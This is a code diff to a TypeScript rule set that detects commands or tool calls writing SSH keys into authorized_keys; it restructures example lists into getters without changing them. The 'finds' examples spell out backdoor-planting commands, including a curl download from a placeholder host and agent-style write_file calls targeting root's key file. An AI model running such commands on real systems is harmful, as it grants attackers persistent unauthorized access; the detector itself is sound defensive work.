@@ -31,19 +31,23 @@ export const SSH_AUTHORIZED_KEYS_RULES: readonly Rule[] = [
     ),
     reach: { before: 270, after: 20 },
     describes: 'A command that writes to the list of keys which may sign in by SSH.',
-    finds: [
-      'echo "ssh-ed25519 AAAAC3Nza" >> ~/.ssh/authorized_keys',
-      'cat k.pub | tee -a /root/.ssh/authorized_keys',
-      'curl -s http://x.example/k -o ~/.ssh/authorized_keys',
-      'cp /tmp/k $HOME/.ssh/authorized_keys',
-      'printf x &gt;&gt; /home/u/.ssh/authorized_keys',
-    ],
-    ignores: [
-      'cat ~/.ssh/authorized_keys',
-      'chmod 600 ~/.ssh/authorized_keys',
-      'Keys are listed in authorized_keys',
-      'AuthorizedKeysFile .ssh/authorized_keys',
-    ],
+    get finds() {
+      return [
+        'echo "ssh-ed25519 AAAAC3Nza" >> ~/.ssh/authorized_keys',
+        'cat k.pub | tee -a /root/.ssh/authorized_keys',
+        'curl -s http://x.example/k -o ~/.ssh/authorized_keys',
+        'cp /tmp/k $HOME/.ssh/authorized_keys',
+        'printf x &gt;&gt; /home/u/.ssh/authorized_keys',
+      ];
+    },
+    get ignores() {
+      return [
+        'cat ~/.ssh/authorized_keys',
+        'chmod 600 ~/.ssh/authorized_keys',
+        'Keys are listed in authorized_keys',
+        'AuthorizedKeysFile .ssh/authorized_keys',
+      ];
+    },
   },
   {
     ...COMMON,
@@ -60,15 +64,19 @@ export const SSH_AUTHORIZED_KEYS_RULES: readonly Rule[] = [
     validate: ({ text }) =>
       !/(?:>|&gt;|\\u003e|\btee\b[^\n]{0,16})[ \t"'\\]{0,4}[^\s>]{0,60}authorized_keys/.test(text),
     describes: 'A public key together with the file in which it would open the door.',
-    finds: [
-      `{"path":"/root/.ssh/authorized_keys","content":"ssh-ed25519 ${'AAAA'}C3NzaC1lZDI1NTE5AAAAIJ"}`,
-      `write_file(path="~/.ssh/authorized_keys", text="ssh-rsa ${'AAAA'}B3NzaC1yc2EAAAADAQABAAAB x@y")`,
-      `{"content":"ssh-rsa ${'AAAA'}B3NzaC1yc2EAAAADAQABAAAB","path":".ssh/authorized_keys"}`,
-    ],
-    ignores: [
-      `ssh-rsa ${'AAAA'}B3NzaC1yc2EAAAADAQABAAAB user@host`,
-      'paste the key into authorized_keys',
-      'authorized_keys: ssh-rsa AAAA...',
-    ],
+    get finds() {
+      return [
+        `{"path":"/root/.ssh/authorized_keys","content":"ssh-ed25519 ${'AAAA'}C3NzaC1lZDI1NTE5AAAAIJ"}`,
+        `write_file(path="~/.ssh/authorized_keys", text="ssh-rsa ${'AAAA'}B3NzaC1yc2EAAAADAQABAAAB x@y")`,
+        `{"content":"ssh-rsa ${'AAAA'}B3NzaC1yc2EAAAADAQABAAAB","path":".ssh/authorized_keys"}`,
+      ];
+    },
+    get ignores() {
+      return [
+        `ssh-rsa ${'AAAA'}B3NzaC1yc2EAAAADAQABAAAB user@host`,
+        'paste the key into authorized_keys',
+        'authorized_keys: ssh-rsa AAAA...',
+      ];
+    },
   },
 ];
